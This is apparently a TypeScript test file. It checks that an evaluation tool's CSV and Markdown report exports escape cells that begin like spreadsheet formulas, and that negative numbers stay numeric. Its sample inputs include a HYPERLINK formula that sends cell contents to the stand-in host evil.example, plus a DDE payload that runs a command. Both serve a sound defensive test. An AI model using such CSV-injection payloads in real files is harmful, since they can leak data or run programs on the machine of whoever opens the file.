import { test } from 'node:test';
import assert from 'node:assert/strict';
import { accuracyTable } from '../../../src/core/analysis/accuracyTable';
import { compareRuns, type PairedJudged } from '../../../src/core/analysis/comparison';
import { accuracyCsv, accuracyMarkdown, comparisonCsv, comparisonMarkdown } from '../../../src/core/analysis/report';
import type { Judged } from '../../../src/core/analysis/verdict';

const EVIL = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
];
const j = (index: number, task: string, label: Judged['label'], margin: number): Judged => ({
  index,
  task,
  modality: 'text',
  label,
  margin,
});

/** Naive CSV split (enough for these rows: quoted cells hold no commas here except the ones we check). */
function cells(csv: string): string[][] {
  const rows: string[][] = [];
  for (const line of csv.trimEnd().split('\n')) {
    const out: string[] = [];
    for (const m of line.matchAll(/("(?:[^"]|"")*"|[^,]*)(,|$)/g)) {
      if (m[0] === '' && m.index === line.length && out.length) break;
      out.push(m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1]);
    }
    rows.push(out);
  }
  return rows;
}

test('CSV exports neutralise text cells that start like a formula; numbers, negative ones too, stay numbers', () => {
  const judged = EVIL.flatMap((t, k) => [j(2 * k, t, 'A', 1), j(2 * k + 1, t, 'B', 1)]);
  const rows = cells(accuracyCsv(accuracyTable(judged)));
  const names = rows.filter((r) => r[0] === 'task').map((r) => r[1]);
  assert.equal(names.length, EVIL.length);
  for (const n of names) assert.match(n, /^'[=+\-@\t\r]/, JSON.stringify(n));
  for (const e of EVIL) assert.ok(names.includes(`'${e}`), `${JSON.stringify(e)} kept, behind an apostrophe`);

  // Model A is right where B is wrong: the differences (B − A) are negative numbers and stay so.
  const pairs: PairedJudged[] = [0, 1, 2, 3].map((i) => ({
    index: i,
    task: '=cmd',
    modality: 'text',
    label: 'A',
    a: { margin: 1 },
    b: { margin: -1 },
  }));
  const cmp = comparisonCsv(compareRuns(pairs));
  const row = cells(cmp).find((r) => r[0].includes('cmd'))!;
  assert.equal(row[0], "'=cmd");
  const numbers = cells(cmp)
    .slice(1)
    .flatMap((r) => r.slice(1))
    .filter((c) => /^-/.test(c));
  assert.deepEqual(numbers, ['-1', '-1']);
});

test('Markdown exports escape a formula start and keep the table whole', () => {
  const judged = EVIL.map((t, k) => j(k, t, 'A', 1));
  const md = accuracyMarkdown(accuracyTable(judged));
  const firstCells = md
    .split('\n')
    .filter((l) => l.startsWith('| ') && !l.startsWith('| task') && !l.startsWith('| ---') && !l.startsWith('| **'))
    .map((l) => l.slice(2).split(' | ')[0]);
  assert.equal(firstCells.length, EVIL.length);
  for (const c of firstCells) assert.match(c, /^\\[=+\-@]/, c);
  assert.ok(!md.includes('\t') && !md.includes('\r'), 'no tab or CR in the table');
  const cmp = comparisonMarkdown(compareRuns([]), '=evil()', '-model');
  assert.match(cmp, /\| \\=evil\(\) w\/ ties \| \\-model w\/ ties \|/);
});
